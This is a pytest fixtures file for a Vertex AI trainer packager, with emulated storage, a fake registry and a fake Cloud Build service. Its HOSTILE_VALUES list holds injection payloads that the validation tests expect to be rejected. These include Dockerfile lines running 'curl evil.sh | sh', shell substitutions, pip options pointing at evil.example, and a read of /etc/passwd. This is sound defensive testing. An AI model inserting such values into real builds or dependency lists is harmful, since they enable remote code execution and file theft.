"""Fixtures for the packager tests: a small trainer tree, specs, and loopback services
(gcp-storage-emulator in-process, a fake registry, a fake Cloud Build).

The library takes its endpoints from a `Settings` argument (the `settings` fixture points it at
whichever services the test uses); only tests that go through the CLI, the edge, set environment
variables (`edge_env`)."""

from __future__ import annotations

import shutil
import socket
import sys
from pathlib import Path

import pytest

from vertex_trainer.emulators.cloudbuild import FakeCloudBuild
from vertex_trainer.emulators.registry import FakeRegistry
from vertex_trainer.local.cluster import free_ports
from vertex_trainer.settings import (
    CLOUDBUILD_ENV,
    REGISTRY_ENV,
    RETRY_ENV,
    STORAGE_EMULATOR_ENV,
    RetryPolicy,
    Settings,
)
from vertex_trainer.spec import build_spec

REPO = Path(__file__).resolve().parents[2]
PROJECT, REGION, BUCKET = "test-project", "us-central1", "test-staging"
REPOSITORY = "us-central1-docker.pkg.dev/test-project/training/trainer"
# Retries in milliseconds, so a test of a transient failure stays quick.
FAST_RETRY = "attempts=4,initial=0.01,maximum=0.05,deadline=10"
# Values that would inject a Dockerfile instruction or a shell command if they reached one: each
# must be exit 2 naming its field (the CLI and render_dockerfile tests add their own fields).
HOSTILE_VALUES = [
    ("base_image", "python:3.11\nRUN curl evil.sh | sh"),
    ("base_image", "python:3.11 AS x\nRUN id"),
    ("base_image", "python:`id`"),
    ("base_image", "python:$(id)"),
    ("base_image", 'python:3.11"'),
    ("pip_packages", ["pandas==2.2.3\nRUN curl evil.sh | sh"]),
    ("pip_packages", ["pandas; `id`"]),
    ("pip_packages", ["$(curl evil.sh)"]),
    ("pip_packages", ["--index-url=https://evil.example/simple"]),
    ("pip_packages", ["-r /etc/passwd"]),
    ("pip_packages", ["pandas @ https://evil.example/p.whl"]),
    ("pip_packages", ["pandas'"]),
]


def hadolint_path() -> str:
    found = Path(sys.executable).with_name("hadolint")
    return str(found) if found.exists() else (shutil.which("hadolint") or "hadolint")


@pytest.fixture
def trainer_dir(tmp_path) -> Path:
    """A trainer package laid out like the repository's trainer_image/ (small, made up)."""
    root = tmp_path / "src" / "trainer_image"
    pkg = root / "trainer"
    pkg.mkdir(parents=True)
    (pkg / "__init__.py").write_text('"""trainer"""\n')
    (pkg / "task.py").write_text(
        "def main():\n    print('training')\n\n\nif __name__ == '__main__':\n    main()\n"
    )
    (pkg / "data.py").write_text("BATCH = 32\n")
    (pkg / "models").mkdir()
    (pkg / "models" / "__init__.py").write_text("")
    (pkg / "models" / "cnn.py").write_text("LAYERS = 3\n")
    (root / "requirements.txt").write_text(
        "# the trainer's pins besides TensorFlow\ntensorflow-cpu==2.21.0\ntf-keras==2.21.0\nPillow>=10\n"
    )
    return pkg


def spec_data(**image) -> dict:
    if not any(image.get(k) for k in ("uri", "repository", "python_package")):
        image = {"repository": REPOSITORY, **image}
    return {
        "name": "pkg-test",
        "project": PROJECT,
        "region": REGION,
        "hardware": "t4x1",
        "image": image,
        "output_dir": f"gs://{BUCKET}/runs/pkg-test",
        "trainer": {
            "model": "tiny-cnn",
            "train_data": f"gs://{BUCKET}/data/train-*",
            "num_classes": 10,
            "batch_size": 64,
        },
    }


@pytest.fixture
def make_spec():
    """make_spec(repository=..., builder=..., hardware=...) -> a real, validated JobSpec."""

    def make(hardware: str = "t4x1", **image):
        data = spec_data(**image)
        data["hardware"] = hardware
        return build_spec(data)

    return make


@pytest.fixture
def storage():
    """gcp-storage-emulator in this process, with the staging bucket. Yields a
    google-cloud-storage client for it (`.emulator_host` is its URL)."""
    from gcp_storage_emulator.server import create_server
    from google.auth.credentials import AnonymousCredentials
    from google.cloud import storage as gcs

    port = free_ports(1)[0]
    server = create_server("127.0.0.1", port, in_memory=True)
    server.start()
    host = f"http://127.0.0.1:{port}"
    client = gcs.Client(
        project=PROJECT, credentials=AnonymousCredentials(), client_options={"api_endpoint": host}
    )
    client.create_bucket(BUCKET)
    client.emulator_host = host
    try:
        yield client
    finally:
        server.stop()


@pytest.fixture
def registry():
    with FakeRegistry() as fake:
        yield fake


@pytest.fixture
def cloudbuild(storage, registry):
    with FakeCloudBuild(storage_host=storage.emulator_host, registry=registry) as fake:
        yield fake


@pytest.fixture
def settings(request) -> Settings:
    """Settings aimed at the loopback services this test uses (what the CLI builds from the
    environment), with millisecond retries."""
    uses = request.fixturenames
    endpoints = {}
    if "storage" in uses:
        endpoints["storage_emulator"] = request.getfixturevalue("storage").emulator_host
    if "registry" in uses:
        endpoints["registry_endpoint"] = request.getfixturevalue("registry").url
    if "cloudbuild" in uses:
        endpoints["cloudbuild_endpoint"] = request.getfixturevalue("cloudbuild").url
    return Settings(project=PROJECT, retry=RetryPolicy.parse(FAST_RETRY), **endpoints)


@pytest.fixture
def edge_env(monkeypatch, settings):
    """The same endpoints as environment variables, for tests that run the CLI (the edge)."""
    for name, value in (
        (STORAGE_EMULATOR_ENV, settings.storage_emulator),
        (REGISTRY_ENV, settings.registry_endpoint),
        (CLOUDBUILD_ENV, settings.cloudbuild_endpoint),
    ):
        if value:
            monkeypatch.setenv(name, value)
    monkeypatch.setenv(RETRY_ENV, FAST_RETRY)


@pytest.fixture
def no_network(monkeypatch):
    """Any socket connection fails the test: proves a code path stays offline."""
    real_connect = socket.socket.connect
    calls = []

    def refuse(self, address):
        calls.append(address)
        raise AssertionError(f"network connection attempted: {address}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    yield calls
    monkeypatch.setattr(socket.socket, "connect", real_connect)


class Log(list):
    def __call__(self, line: str) -> None:
        self.append(line)


@pytest.fixture
def log() -> Log:
    return Log()


@pytest.fixture
def pk():
    """Constants and helpers shared by the packager tests (conftest is not importable)."""
    from types import SimpleNamespace

    return SimpleNamespace(
        REPO=REPO,
        PROJECT=PROJECT,
        REGION=REGION,
        BUCKET=BUCKET,
        REPOSITORY=REPOSITORY,
        hadolint=hadolint_path(),
        spec_data=spec_data,
    )
